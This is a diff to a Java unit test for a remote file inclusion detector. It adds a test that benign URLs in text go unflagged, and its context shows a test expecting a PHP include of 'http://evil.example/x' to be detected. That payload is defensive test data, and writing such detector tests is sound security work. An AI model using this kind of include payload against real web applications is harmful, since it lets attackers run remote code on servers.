@@ -99,6 +99,12 @@ class RemoteFileInclusionDetectorTest {
     }
 
     @Test
+    void ignoresUrlsMentionedInText() {
+        assertThat(standard(Scans.form("comment", "Open file:///projects/app to check, or http://203.0.113.5/x.txt"))).isEmpty();
+        assertThat(standard(query("q", "license at http://www.gnu.org/licenses/gpl.txt"))).isEmpty();
+    }
+
+    @Test
     void detectsIncludeCallWithUrl() {
         assertThat(Scans.at(Level.BASIC, detector, query("<?php include('http://evil.example/x'); ?>")))
                 .containsExactly("RFI-INCLUDE-CALL");
